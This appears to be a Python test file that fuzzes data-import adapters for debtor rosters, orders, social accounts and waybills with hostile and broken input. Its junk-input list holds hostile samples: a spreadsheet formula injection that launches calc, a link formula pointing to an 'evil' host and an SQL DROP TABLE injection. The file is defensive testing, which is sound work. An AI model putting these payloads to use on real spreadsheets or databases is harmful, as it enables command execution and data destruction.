"""Hostile and broken input (issue 6): nothing lost, nothing injected, nothing exposed.

What each part shows (tests/test_sources.py has the example-based cases per adapter;
this file adds what holds for *any* input and for the whole pipeline):

1. Accounting: for every file, rows read = kept + quarantined, each quarantined row has
   its file, a line inside the file and a reason in words; a bad row never takes good
   rows with it; an unreadable file is a clear file-level error, never an exception.
2. Fuzz (hypothesis) over every adapter and every linkage normaliser, plus a ~1 GB
   single-line file read in a subprocess whose peak memory is measured.
3-5. One pipeline run over a hostile inbox: no report cell starts a formula, IDs are
   masked, the database and reports are owner-only, SQL payloads round-trip as data,
   court names cannot steer report paths, and the audit table matches the files.
"""
from __future__ import annotations

import ast
import csv
import datetime as dt
import hashlib
import io
import json
import os
import random
import re
import stat
import subprocess
import sys
import threading
from pathlib import Path

import duckdb
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sources import common, ecommerce, inbox, logistics, roster, social
from sources.schema import QUARANTINE_SCHEMA

# LOCATE_FUZZ_EXAMPLES=2000 pytest tests/test_hostile.py  fuzzes harder (CI keeps it fast).
FUZZ_EXAMPLES = int(os.environ.get("LOCATE_FUZZ_EXAMPLES", "40"))
FAST = settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture,
                                       HealthCheck.data_too_large, HealthCheck.large_base_example])

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# --------------------------------------------------------------------------- accounting


def physical_lines(data: bytes) -> int:
    return data.count(b"\n") + (0 if data.endswith(b"\n") or not data else 1)


def assert_accounted(res, path: Path | None = None, *, per_row: int = 1):
    """The invariants every adapter result must satisfy, whatever the input."""
    assert res.rows_read == res.rows_kept + res.rows_quarantined, (
        res.rows_read, res.rows_kept, res.rows_quarantined)
    assert dict(res.quarantine.schema) == QUARANTINE_SCHEMA
    assert res.quarantine.height == res.rows_quarantined
    if res.error is not None:
        assert isinstance(res.error, str) and len(res.error) >= 10 and re.search(r"[a-z]{3}", res.error)
        assert res.rows_read == 0 and res.rows.height == 0 and res.quarantine.height == 0
        return res
    q = res.quarantine
    if q.height:
        assert q["reason"].null_count() == 0
        assert all(re.search(r"[a-z]{3}", r) for r in q["reason"].to_list()), q["reason"].to_list()
        assert (q["file"] == res.file).all()
        assert q["line"].min() >= 1
        assert q["line"].n_unique() == q.height, "a row quarantined twice"
        assert q["raw"].str.len_chars().max() <= common.RAW_CHARS
    if path is not None and path.suffix != ".parquet" and q.height:
        assert q["line"].max() <= physical_lines(path.read_bytes())
    kept_lines = set(res.rows["line"].to_list())
    assert not kept_lines & set(q["line"].to_list()), "a line both kept and quarantined"
    assert len(kept_lines) == res.rows_kept
    if per_row:
        assert res.rows.height == per_row * res.rows_kept
    return res


def read_with(mod, path: Path, kind: str, platform: str = "p"):
    return mod.read(path, rel_name=f"{kind}/{path.name}", platform=platform)


# --------------------------------------------------------------------------- strategies

# Arbitrary Unicode (no lone surrogates: they cannot be written to a file in any encoding).
any_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
nasty_chars = st.sampled_from(list(',"\'\r\t;=+-@\\') + ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\u200b",
                              "\u202e", "\ufeff", "\u2028", "\U0001F600", "𠀀", "Ｘ", "１"])
nasty_text = st.text(st.one_of(nasty_chars, st.characters(blacklist_categories=("Cs",))), max_size=30)
junk_text = st.one_of(
    any_text, nasty_text,
    st.sampled_from(['"', '"a,b', 'x",y', '""', '"""', ',,,,', "=HYPERLINK(\"http://evil\",\"x\")",
                     "-2+3", "@SUM(A1)", "+cmd|' /C calc'!A0", "\t=1", "x'); DROP TABLE debtors; --",
                     "9" * 400, "1e400", "NaN", "-inf", "0000-00-00", "9999/12/31 23:59:59", "1970/01/01",
                     "2026/02/29 10:00:00", "２０２６/１１/２７", "路" * 1200]),
)
junk_bytes = st.binary(max_size=40).map(lambda b: b.replace(b"\n", b""))

# Good values that must survive any neighbour: commas, quotes, line breaks, Unicode.
good_names = st.sampled_from(["茹某明", "欧阳娜娜", "王,小红", '阿"三"', "李\n四", "𠀀明", "Zhang San", "茹*明"])
good_addrs = st.sampled_from(["浙江省杭州市西湖区文三路1号2幢3单元501室", "绍兴市柯桥区笛扬路金色家园3幢",
                              "杭州市,西湖区", "杭州\n西湖\n文三路", '上城区"解放路"8号', "菜鸟驿站(丰巢快递柜)"])


def csv_record(fields: list[str]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(fields)   # quotes fields holding \r or \n
    return buf.getvalue()[:-2]


def layout(draw, columns: list[str], optional: list[str]) -> list[str]:
    """Header: the known columns shuffled, some optional ones dropped, maybe an unknown one."""
    drop = draw(st.sets(st.sampled_from(optional), max_size=len(optional)))
    cols = [c for c in columns if c not in drop]
    cols = draw(st.permutations(cols))
    if draw(st.booleans()):
        cols.insert(draw(st.integers(0, len(cols))), "备注")
    return list(cols)


@st.composite
def csv_file(draw, columns, optional, good_row, encodings):
    """(bytes, encoding, {good id: expected values}) for a CSV export whose good rows sit
    among junk lines, junk bytes and rows of random cells."""
    header = layout(draw, columns, optional)
    encoding = draw(st.sampled_from(encodings))
    eol = draw(st.sampled_from(["\r\n", "\n"]))
    items = draw(st.lists(st.one_of(
        st.tuples(st.just("good"), good_names, good_addrs),
        st.tuples(st.just("good_bom"), good_names, good_addrs),   # exports pasted together
        st.tuples(st.just("junk"), junk_text),
        st.tuples(st.just("bytes"), junk_bytes),
        st.tuples(st.just("cells"), st.lists(junk_text, max_size=len(header) + 2)),
        st.tuples(st.just("blank"), st.sampled_from(["", "   ", ",,,"])),
    ), max_size=25))
    chunks = [(csv_record(header) + eol).encode(encoding)]
    body_enc = "utf-8" if encoding == "utf-8-sig" else encoding
    expected = {}
    for i, item in enumerate(items):
        if item[0] in ("good", "good_bom"):
            key = f"K{i:03d}"
            values = good_row(key, item[1], item[2])
            expected[key] = {c: v for c, v in values.items() if c in header}
            text = csv_record(["" if c not in values else values[c] for c in header])
            if item[0] == "good_bom":
                text = "\ufeff" + text
            chunks.append((text + eol).encode(body_enc))
        elif item[0] == "junk":
            chunks.append((item[1].replace("\n", " ") + eol).encode(body_enc, "replace"))
        elif item[0] == "bytes":
            chunks.append(item[1] + eol.encode())
        elif item[0] == "cells":
            chunks.append((csv_record(item[1]) + eol).encode(body_enc, "replace"))
        else:
            chunks.append((item[1] + eol).encode())
    data = b"".join(chunks)
    if draw(st.booleans()):
        data = data[: len(data) - len(eol)]       # no final line break
    return data, encoding, expected


def ec_good(key, name, addr):
    return {"订单编号": key, "买家ID": "B1", "实名姓名": name, "实名证件号": "330502********1234",
            "绑定手机": "138****5678", "收货人": name, "收货手机": "+86 138-0000-1111", "收货地址": addr,
            "下单时间": "2026/11/20 10:00:00", "签收时间": "2026/11/21 12:00:00", "实付金额": "1,299.00",
            "商品类目": "=1+1"}


def ro_good(key, name, addr):
    return {"案号": f"(2025)浙1003执{key}号", "执行法院": "台州市黄岩区人民法院", "承办人": "王法官",
            "被执行人": name, "证件类型": "居民身份证", "证件号码": "33050219800101123x",
            "联系电话": "13857101115；0571-87054420", "户籍地址": addr, "执行标的": "1,234.50",
            "立案日期": "2025-03-04", "限制消费": "是", "失信": "否", "案件状态": "执行中"}


def cleaned(v: str | None) -> str | None:
    return common.clean_text(v)


def check_good_rows_kept(res, expected, key_col, key_of, addr_col, addr_of, name_col, name_of):
    kept = {key_of(k): k for k in res.rows[key_col].to_list()}
    missing = set(expected) - set(kept)
    assert not missing, ("good rows lost", sorted(missing), res.quarantine.to_dicts()[:5])
    rows = {key_of(r[key_col]): r for r in res.rows.to_dicts()}
    for k, values in expected.items():
        assert rows[k][addr_col] == cleaned(values.get(addr_of)), (k, rows[k])
        assert rows[k][name_col] == cleaned(values.get(name_of)), (k, rows[k])


# --------------------------------------------------------------------------- 2. adapters under fuzz


@FAST
@given(csv_file(ecommerce.COLUMNS, ecommerce.OPTIONAL, ec_good, ["gb18030", "utf-8", "utf-8-sig"]))
def test_fuzz_ecommerce_good_rows_survive_any_neighbours(tmp_path_factory, case):
    data, _, expected = case
    path = tmp_path_factory.mktemp("ec") / "p_orders_20261127.csv"
    path.write_bytes(data)
    res = assert_accounted(read_with(ecommerce, path, "ecommerce"), path)
    assert res.error is None, res.error
    check_good_rows_kept(res, expected, "record_id", lambda k: k, "address", "收货地址", "person_name", "收货人")
    for r in res.rows.to_dicts():
        if r["record_id"] in expected:
            assert r["amount"] in (1299.0, None) and r["event_time"] == dt.datetime(2026, 11, 21, 12)


@FAST
@given(csv_file(roster.COLUMNS, roster.OPTIONAL, ro_good, ["utf-8-sig", "utf-8", "gb18030"]))
def test_fuzz_roster_good_rows_survive_any_neighbours(tmp_path_factory, case):
    data, _, expected = case
    path = tmp_path_factory.mktemp("ro") / "roster.csv"
    path.write_bytes(data)
    res = assert_accounted(read_with(roster, path, "debtors"), path)
    assert res.error is None, res.error
    key = lambda c: re.sub(r"^\(2025\)浙1003执|号$", "", c)  # noqa: E731
    check_good_rows_kept(res, expected, "case_no", key, "hukou_address", "户籍地址", "name", "被执行人")
    for r in res.rows.to_dicts():
        if key(r["case_no"]) in expected:
            assert r["id_number"] == "33050219800101123X" and r["amount_owed"] == 1234.5


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.integers(min_value=10**20, max_value=10**60)
    | st.floats(allow_nan=True, allow_infinity=True) | junk_text,
    lambda c: st.lists(c, max_size=3) | st.dictionaries(junk_text, c, max_size=3), max_leaves=6)
account_like = st.fixed_dictionaries({}, optional={
    "uid": json_values, "nickname": json_values, "real_name": json_values, "id_no": json_values,
    "phone": json_values, "profile_region": json_values,
    "logins": st.one_of(json_values, st.lists(st.fixed_dictionaries({}, optional={
        "ts": st.one_of(json_values, st.sampled_from(["2026-11-20T21:33:00+08:00", "2026-02-30T00:00:00",
                                                      "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00"])),
        "ip_region": json_values}), max_size=3)),
    "geo_posts": st.one_of(json_values, st.lists(st.fixed_dictionaries({}, optional={
        "ts": json_values, "poi": json_values, "address": json_values}), max_size=3)),
})


def so_good(i, name, addr):
    return {"uid": f"u{i}", "real_name": name, "phone": "13857101115", "profile_region": "浙江 绍兴",
            "geo_posts": [{"ts": "2026-11-02T19:05:00+08:00", "address": addr}],
            "logins": [{"ts": 1795786380, "ip_region": "浙江省绍兴市"}]}


@FAST
@given(st.lists(st.one_of(
    st.tuples(st.just("good"), good_names, good_addrs),
    st.tuples(st.just("json"), account_like),
    st.tuples(st.just("text"), junk_text),
    st.tuples(st.just("bytes"), junk_bytes),
    st.tuples(st.just("gb18030"), good_names),
), max_size=25), st.booleans())
def test_fuzz_social_good_lines_survive_any_neighbours(tmp_path_factory, items, final_eol):
    lines, expected = [], {}
    for i, item in enumerate(items):
        if item[0] == "good":
            obj = so_good(i, item[1], item[2])
            expected[obj["uid"]] = obj
            lines.append(json.dumps(obj, ensure_ascii=bool(i % 2)).encode("utf-8"))
        elif item[0] == "json":
            lines.append(json.dumps(item[1], ensure_ascii=False).encode("utf-8", "replace"))
        elif item[0] == "text":
            lines.append(item[1].replace("\n", " ").encode("utf-8", "replace"))
        elif item[0] == "bytes":
            lines.append(item[1])
        else:   # a GB18030 line inside the UTF-8 file: kept with a warning
            obj = {"uid": f"g{i}", "real_name": item[1].replace("\n", ""), "phone": "13857101115"}
            expected[obj["uid"]] = obj
            lines.append(json.dumps(obj, ensure_ascii=False).encode("gb18030"))
    path = tmp_path_factory.mktemp("so") / "s_accounts_20261127.jsonl"
    path.write_bytes(b"\n".join(lines) + (b"\n" if final_eol else b""))
    res = assert_accounted(read_with(social, path, "social"), path, per_row=0)
    if res.error is not None:   # only a file that looks binary and does not start with an object
        first = next((x for x in lines if x.strip()), b"")
        assert not any(json.dumps(o, ensure_ascii=True).encode() == first
                       or json.dumps(o, ensure_ascii=False).encode() == first for o in expected.values())
        return
    kept = {r["account_id"]: r for r in res.rows.to_dicts()}
    assert set(expected) <= set(kept), (set(expected) - set(kept), res.quarantine.to_dicts()[:5])
    for uid, obj in expected.items():
        assert kept[uid]["account_name"] == cleaned(obj["real_name"])
    # every kept line gives at least one observation
    assert res.rows["line"].n_unique() == res.rows_kept


# parquet columns: every type an exporter might use for each column
TEXT_TYPES = [pa.string(), pa.large_string(), pa.binary(), pa.int64(), pa.float64(), pa.bool_(),
              pa.dictionary(pa.int32(), pa.string()), pa.null()]
TIME_TYPES = [pa.timestamp("s"), pa.timestamp("ms", "UTC"), pa.timestamp("us", "Asia/Shanghai"),
              pa.timestamp("ns"), pa.date32(), pa.string(), pa.int64(), pa.float64(), pa.null()]


def _value_for(t: pa.DataType, draw):
    if pa.types.is_null(t):
        return None
    if pa.types.is_timestamp(t):
        # parquet has no seconds unit: 's' is stored as ms, so stay within int64 after x1000
        lo, hi = {"s": (-(2**63) // 1000 + 1, (2**63 - 1) // 1000)}.get(t.unit, (-(2**63) + 1, 2**63 - 1))
        return draw(st.one_of(st.none(), st.integers(lo, hi), st.sampled_from([0, 1795786380 * 10**3])))
    if pa.types.is_date32(t):
        return draw(st.one_of(st.none(), st.integers(-(2**31) + 1, 2**31 - 1), st.just(20_000)))
    if pa.types.is_int64(t):
        return draw(st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1), st.just(13857101115),
                              st.just(1795786380), st.just(1795786380000)))
    if pa.types.is_float64(t):
        return draw(st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True), st.just(13857101115.0)))
    if pa.types.is_boolean(t):
        return draw(st.one_of(st.none(), st.booleans()))
    if pa.types.is_binary(t):
        return draw(st.one_of(st.none(), st.binary(max_size=20), junk_text.map(lambda s: s.encode("utf-8", "replace"))))
    return draw(st.one_of(st.none(), junk_text, st.sampled_from(["2026/11/20 08:00:00", "2026-11-20T08:00:00Z",
                                                                "1795786380", "２０２６/１１/２７"])))


def _arrow_array(t: pa.DataType, values: list) -> pa.Array:
    if pa.types.is_timestamp(t) or pa.types.is_date32(t):
        storage = pa.int64() if pa.types.is_timestamp(t) else pa.int32()
        return pa.array(values, storage).cast(t)
    if pa.types.is_dictionary(t):
        return pa.array(values, pa.string()).dictionary_encode()
    return pa.array(values, t)


def is_text(t: pa.DataType) -> bool:
    return pa.types.is_string(t) or pa.types.is_large_string(t) or pa.types.is_dictionary(t)


@st.composite
def parquet_table(draw):
    n = draw(st.integers(0, 12))
    good = draw(st.lists(st.booleans(), min_size=n, max_size=n))
    cols = {}
    names = draw(st.permutations(logistics.COLUMNS))
    for c in names:
        t = draw(st.sampled_from(TIME_TYPES if c in logistics.TIME_COLUMNS else TEXT_TYPES))
        if c == "waybill_no" and draw(st.booleans()):
            t = pa.string()
        vals = [_value_for(t, draw) for _ in range(n)]
        cols[c] = (t, vals)
    if draw(st.booleans()):
        cols["extra_col"] = (pa.string(), [draw(junk_text) for _ in range(n)])
    arrays, fields, expected = [], [], {}
    for c, (t, vals) in cols.items():
        vals = list(vals)
        for i in range(n):
            if good[i]:   # rows marked good carry plain strings in string columns and a sane time
                if c == "waybill_no" and t == pa.string():
                    vals[i] = f"GOOD{i}"
                elif is_text(t) and c in logistics.TIME_COLUMNS:
                    vals[i] = "2026/11/20 08:00:00"
                elif is_text(t):
                    vals[i] = "茹*明"
                elif pa.types.is_binary(t):
                    vals[i] = "茹*明".encode("gb18030")
                elif pa.types.is_timestamp(t):
                    vals[i] = 1795786380 * {"s": 1, "ms": 10**3, "us": 10**6, "ns": 10**9}[t.unit]
                elif pa.types.is_date32(t):
                    vals[i] = 20_000
                elif pa.types.is_int64(t) and c in logistics.TIME_COLUMNS:
                    vals[i] = 1795786380
                elif pa.types.is_float64(t) and c in logistics.TIME_COLUMNS:
                    vals[i] = 1795786380000.0
                elif pa.types.is_float64(t):
                    vals[i] = 13857101115.0     # a phone exported as a number
                elif pa.types.is_int64(t):
                    vals[i] = 13857101115
        arrays.append(_arrow_array(t, vals))
        fields.append(c)
    wb_t = cols["waybill_no"][0]
    pickup_t = cols["pickup_time"][0]
    sane_pickup = not pa.types.is_null(pickup_t)
    for i in range(n):
        if good[i] and wb_t == pa.string() and sane_pickup:
            expected[f"GOOD{i}"] = i + 1
    table = pa.Table.from_arrays(arrays, names=fields)
    return table, expected, draw(st.sampled_from([None, 1, 3]))


@FAST
@given(parquet_table())
def test_fuzz_logistics_any_column_types_and_values(tmp_path_factory, case):
    table, expected, row_group_size = case
    path = tmp_path_factory.mktemp("lo") / "c_waybills_20261127.parquet"
    pq.write_table(table, path, row_group_size=row_group_size)
    res = assert_accounted(read_with(logistics, path, "logistics"), path, per_row=2)
    assert res.error is None, res.error
    assert res.rows_read == table.num_rows
    kept = dict(zip(res.rows["record_id"].to_list(), res.rows["line"].to_list()))
    for wb, line in expected.items():
        assert kept.get(wb) == line, (wb, res.quarantine.to_dicts())
    for t in ("event_time", "order_time"):
        assert res.rows[t].dtype == pl.Datetime("us")


@FAST
@given(st.sets(st.sampled_from(logistics.REQUIRED), min_size=1))
def test_fuzz_logistics_missing_columns_named_in_error(tmp_path_factory, missing):
    cols = {c: pa.array(["x"], pa.string()) for c in logistics.COLUMNS if c not in missing}
    cols["other"] = pa.array([1])
    path = tmp_path_factory.mktemp("lo") / "c_waybills_20261127.parquet"
    pq.write_table(pa.table(cols), path)
    res = assert_accounted(read_with(logistics, path, "logistics"), path)
    assert res.error and all(c in res.error for c in missing)


# --------------------------------------------------------------------------- 1. bad rows, bad files

EC_HEADER = ",".join(ecommerce.COLUMNS)
RO_HEADER = ",".join(roster.COLUMNS)


def ec_line(oid, addr="浙江省杭州市西湖区文三路1号", amount="12.5"):
    return csv_record(list(ec_good(oid, "茹某明", addr).values())[:10] + [amount, "家居日用"])


def ro_line(case, amount="1,234.50"):
    v = ro_good(case, "茹某明", "浙江省湖州市吴兴区某路1号")
    v["执行标的"] = amount
    return csv_record([v[c] for c in roster.COLUMNS])


@pytest.mark.parametrize("kind", ["ecommerce", "debtors"])
def test_stray_quotes_never_swallow_the_good_rows_between_them(tmp_path, kind):
    mod, header, line = ((ecommerce, EC_HEADER, ec_line) if kind == "ecommerce"
                         else (roster, RO_HEADER, ro_line))
    lines = [header, line("G1"), '"', line("G2"), 'x",y', line("G3"), '"abc', '"', line("G4")]
    path = tmp_path / "p_orders_20261127.csv"
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8-sig"))
    res = assert_accounted(read_with(mod, path, kind), path)
    keys = res.rows["record_id" if kind == "ecommerce" else "case_no"].to_list()
    assert [re.sub(r"^\(2025\)浙1003执|号$", "", k) for k in keys] == ["G1", "G2", "G3", "G4"]
    r = dict(zip(res.quarantine["line"].to_list(), res.quarantine["reason"].to_list()))
    assert set(r) == {3, 5, 7, 8}
    assert r[3].startswith("stray quote") and r[7].startswith("stray quote")
    assert res.rows_read == 8


def test_exports_pasted_together_keep_every_row(tmp_path):
    """`cat a.csv b.csv`: a BOM and a header in the middle of the file."""
    a = ("\ufeff" + EC_HEADER + "\r\n" + ec_line("A1") + "\r\n").encode("utf-8")
    b = ("\ufeff" + EC_HEADER + "\r\n" + "\ufeff" + ec_line("B1", addr="杭州市,西湖区") + "\r\n").encode("utf-8")
    path = tmp_path / "p_orders_20261127.csv"
    path.write_bytes(a + b)
    res = assert_accounted(read_with(ecommerce, path, "ecommerce"), path)
    assert res.rows["record_id"].to_list() == ["A1", "B1"]
    assert res.rows["address"][1] == "杭州市,西湖区"
    assert res.quarantine.to_dicts()[0]["reason"] == "header line repeated inside the file"


@pytest.mark.parametrize("kind", ["ecommerce", "debtors", "social"])
def test_nul_padded_tail_after_a_crash_keeps_the_rows_before_it(tmp_path, kind):
    """A file cut short by a crash is often padded with NUL bytes: the good rows before
    the padding are kept and the padding is one quarantined line, not a lost file."""
    if kind == "social":
        body = (json.dumps(so_good(1, "茹某明", "杭州市")) + "\n" + json.dumps(so_good(2, "王小红", "绍兴市"))
                + "\n").encode("utf-8")
        mod, name = social, "s_accounts_20261127.jsonl"
    elif kind == "ecommerce":
        body = (EC_HEADER + "\r\n" + ec_line("O1") + "\r\n" + ec_line("O2") + "\r\n").encode("gb18030")
        mod, name = ecommerce, "p_orders_20261127.csv"
    else:
        body = (RO_HEADER + "\r\n" + ro_line("C1") + "\r\n" + ro_line("C2") + "\r\n").encode("utf-8")
        mod, name = roster, "roster.csv"
    path = tmp_path / name
    path.write_bytes(body + b"\x00" * 4096)
    res = assert_accounted(read_with(mod, path, kind), path, per_row=0 if kind == "social" else 1)
    assert res.error is None and res.rows_kept == 2
    assert res.rows_quarantined == 1 and res.quarantine["line"][0] == 4 - (kind == "social")


@pytest.mark.parametrize("kind", ["ecommerce", "debtors", "social"])
def test_classic_mac_line_breaks_are_read(tmp_path, kind):
    if kind == "social":
        text = json.dumps(so_good(1, "茹某明", "杭州市")) + "\r" + json.dumps(so_good(2, "王小红", "绍兴市"))
        mod, name = social, "s_accounts_20261127.jsonl"
    else:
        header, line = (EC_HEADER, ec_line) if kind == "ecommerce" else (RO_HEADER, ro_line)
        text = "\r".join([header, line("K1"), line("K2")]) + "\r"
        mod, name = (ecommerce, "p_orders_20261127.csv") if kind == "ecommerce" else (roster, "r.csv")
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8"))
    res = assert_accounted(read_with(mod, path, kind), path, per_row=0 if kind == "social" else 1)
    assert res.error is None and res.rows_kept == 2 and res.rows_quarantined == 0
    assert any("carriage return" in w for w in res.warnings)


def test_amounts_that_are_not_numbers(tmp_path):
    path = tmp_path / "r.csv"
    path.write_bytes(("\r\n".join([RO_HEADER, ro_line("C1", "NaN"), ro_line("C2", "inf"),
                                   ro_line("C3", "9" * 400), ro_line("C4", "1e3")]) + "\r\n").encode("utf-8"))
    res = assert_accounted(read_with(roster, path, "debtors"), path)
    assert res.rows["amount_owed"].to_list() == [1000.0]
    assert all(r.startswith("unparseable 执行标的") for r in res.quarantine["reason"].to_list())
    path = tmp_path / "p_orders_20261127.csv"
    path.write_bytes(("\r\n".join([EC_HEADER, ec_line("O1", amount="NaN"), ec_line("O2", amount="-inf")])
                      + "\r\n").encode("gb18030"))
    res = assert_accounted(read_with(ecommerce, path, "ecommerce"), path)
    assert res.rows.height == 0
    assert all(r.startswith("unparseable 实付金额") for r in res.quarantine["reason"].to_list())


def _waybills(tmp_path, **columns) -> Path:
    base = {c: pa.array(["W1", "W2"]) if c == "waybill_no" else pa.array(["x", "y"]) for c in logistics.COLUMNS}
    base["pickup_time"] = pa.array(["2026/11/20 08:00:00"] * 2)
    base["sign_time"] = pa.array([None, None], pa.string())
    base.update(columns)
    path = tmp_path / "sf_waybills_20261127.parquet"
    pq.write_table(pa.table(base), path)
    return path


def test_waybills_phones_as_floats_bytes_in_any_encoding(tmp_path):
    path = _waybills(tmp_path, receiver_phone=pa.array([13857101115.0, float("nan")]),
                     sender_name=pa.array(["茹某明".encode("gb18030"), b"\xff\xfe"], pa.binary()),
                     receiver_name=pa.array(["王小红".encode(), None], pa.binary()))
    res = assert_accounted(read_with(logistics, path, "logistics"), path, per_row=2)
    assert res.error is None and res.rows_kept == 2
    rec = res.rows.filter(pl.col("event") == "receive")
    assert rec["person_phone"].to_list() == ["13857101115", "NaN"]
    assert rec["person_name"].to_list() == ["王小红", None]
    assert res.rows.filter(pl.col("event") == "send")["person_name"].to_list() == ["茹某明", "\ufffd\ufffd"]


@pytest.mark.parametrize("column", [
    pa.array([-(2**62), 2**62], pa.int64()).cast(pa.timestamp("us", "UTC")),
    pa.array([-(2**62), 2**62], pa.int64()).cast(pa.timestamp("ms")),
    pa.array([-(2**31) + 1, 2**31 - 1], pa.int32()).cast(pa.date32()),
    pa.array([1e300, -1e300]),
    pa.array([2**63 - 1, -(2**63)], pa.int64()),
    pa.array(["9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+14:00"]),
], ids=["timestamp-tz", "timestamp-naive", "date32", "float", "int64", "text"])
def test_waybill_times_out_of_any_calendar_are_quarantined_not_fatal(tmp_path, column):
    """polars panics (a BaseException that would end the whole run) when asked to shift
    or show such values; the adapter must quarantine the rows instead."""
    for which in ("pickup_time", "sign_time"):
        res = assert_accounted(read_with(logistics, _waybills(tmp_path, **{which: column}), "logistics"),
                               per_row=2)
        assert res.error is None and res.rows_read == 2 and res.rows_kept == 0
        assert all(r.startswith(f"unparseable {which}") for r in res.quarantine["reason"].to_list())


def test_social_times_beyond_the_calendar_are_quarantined(tmp_path):
    lines = [so_good(1, "茹某明", "杭州市"),
             {**so_good(2, "王小红", "杭州市"), "logins": [{"ts": "9999-12-31T23:59:59-12:00"}]},
             {**so_good(3, "李四", "杭州市"), "geo_posts": [{"ts": "0001-01-01T00:00:00+14:00", "address": "x"}]},
             {**so_good(4, "张三", "杭州市"), "logins": [{"ts": 1e300}]},
             {**so_good(5, "赵六", "杭州市"), "logins": [{"ts": -(10**20)}]}]
    path = tmp_path / "s_accounts_20261127.jsonl"
    path.write_text("\n".join(json.dumps(x) for x in lines) + "\n", encoding="utf-8")
    res = assert_accounted(read_with(social, path, "social"), path, per_row=0)
    assert res.rows["account_id"].unique().to_list() == ["u1"]
    assert res.rows.to_dicts()          # every kept time is a real Python datetime
    assert all("ts" in r for r in res.quarantine["reason"].to_list()), res.quarantine["reason"].to_list()


def test_waybill_columns_holding_lists_are_a_clear_file_error(tmp_path):
    path = _waybills(tmp_path, receiver_name=pa.array([["a"], ["b"]]),
                     sign_time=pa.array([{"t": 1}, {"t": 2}]))
    res = assert_accounted(read_with(logistics, path, "logistics"))
    assert "receiver_name" in res.error and "sign_time" in res.error and "lists or structures" in res.error


def test_a_panicking_adapter_does_not_end_the_run(tmp_path, monkeypatch):
    (tmp_path / "logistics").mkdir()
    _waybills(tmp_path / "logistics")

    def panics(*a, **k):
        raise pl.exceptions.PanicException("out-of-range date")

    monkeypatch.setitem(inbox.ADAPTERS, "logistics", panics)
    (f,) = inbox.discover(tmp_path)
    res = assert_accounted(inbox.read_file(f))
    assert "PanicException" in res.error and "out-of-range date" in res.error


HEADERS = {"ecommerce": EC_HEADER, "debtors": RO_HEADER}
BROKEN = {
    # name: (bytes, words one of which the error must contain; None = not an error)
    "empty": (b"", None),
    "bom only": (b"\xef\xbb\xbf", None),
    "blank lines": (b"\r\n\n   \n", None),
    "utf-16 with bom": ("订单编号,买家ID\r\n1,2".encode("utf-16"), ["UTF-16"]),
    "utf-16 no bom": ("案号,订单编号,被执行人,ID\r\n1,2,3,4\r\n".encode("utf-16-le"), ["UTF-16"]),
    "utf-16be no bom": ("案号,订单编号,被执行人,ID\r\n1,2,3,4\r\n".encode("utf-16-be"), ["UTF-16"]),
    "utf-32": ("订单编号,买家ID\r\n".encode("utf-32"), ["UTF-32"]),
    "gzip": (b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4, ["gzip"]),
    "xlsx": (b"PK\x03\x04" + bytes(200), ["zip", "xlsx"]),
    "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), ["Excel"]),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", ["PDF"]),
    "arrow ipc": (b"ARROW1\x00\x00" + bytes(200) + b"ARROW1", ["Arrow"]),
    "orc": (b"ORC\x11\x00\x00\n\x06\x12\x04\x08" + bytes(200) + b"\x08\x03ORC\x17", ["ORC"]),
    "random binary": (random.Random(6).randbytes(20_000), ["binary", "encoding", "UTF-16"]),
    "latin-1": ("caf\xe9,na\xefve,\xfc\r\n1,2,3\r\n".encode("latin-1"), ["encoding", "lacks"]),
    "shift-jis": ("注文番号,購入者\r\n1,2\r\n".encode("shift_jis"), ["lacks"]),
    "html error page": (b"<html><body>502 Bad Gateway</body></html>", ["lacks"]),
    "header over 1 MB": (b"a," * (1 << 19) + b"\n", ["longer than 1 MB", "lacks"]),
}


@pytest.mark.parametrize("kind", ["ecommerce", "debtors", "social", "logistics"])
@pytest.mark.parametrize("case", list(BROKEN))
def test_unreadable_files_get_a_clear_message_never_an_exception(tmp_path, kind, case):
    data, words = BROKEN[case]
    mod = {"ecommerce": ecommerce, "debtors": roster, "social": social, "logistics": logistics}[kind]
    path = tmp_path / {"ecommerce": "p_orders_20261127.csv", "debtors": "r.csv",
                       "social": "s_accounts_20261127.jsonl", "logistics": "c_waybills_20261127.parquet"}[kind]
    path.write_bytes(data)
    res = assert_accounted(read_with(mod, path, kind), path, per_row=0)
    if kind == "logistics":
        assert res.error and "parquet" in res.error
        if case in ("arrow ipc", "orc", "pdf", "gzip"):
            assert any(w in res.error for w in words), res.error   # says what the file is
    elif kind == "social" and words and "lacks" in words:
        assert res.error is None and res.rows_kept == 0   # text lines that are not JSON: quarantined
        assert res.rows_quarantined == res.rows_read > 0
    elif words is None:
        assert res.error is None and res.rows_read == 0 and res.warnings
    else:
        assert res.error and any(w in res.error for w in words), res.error


@pytest.mark.parametrize("kind", ["ecommerce", "debtors"])
def test_wrong_or_missing_columns_name_what_is_missing(tmp_path, kind):
    mod, cols = (ecommerce, ecommerce.REQUIRED) if kind == "ecommerce" else (roster, roster.REQUIRED)
    path = tmp_path / "x.csv"
    path.write_bytes((",".join(cols[2:] + ["别的"]) + "\r\n1,2\r\n").encode("utf-8"))
    res = assert_accounted(read_with(mod, path, kind))
    assert res.error and all(c in res.error for c in cols[:2])
    assert all(c not in res.error.split("(header")[0] for c in cols[2:])


# --------------------------------------------------------------------------- 2. a 1 GB line

ONE_GB = 1 << 30
PEAK_LIMIT_MB = 400

# Runs the adapter in a grandchild and reports RUSAGE_CHILDREN of this wrapper: the peak
# RSS of exactly that one process, whatever else the test session has spawned.
_WRAPPER = """
import json, resource, subprocess, sys
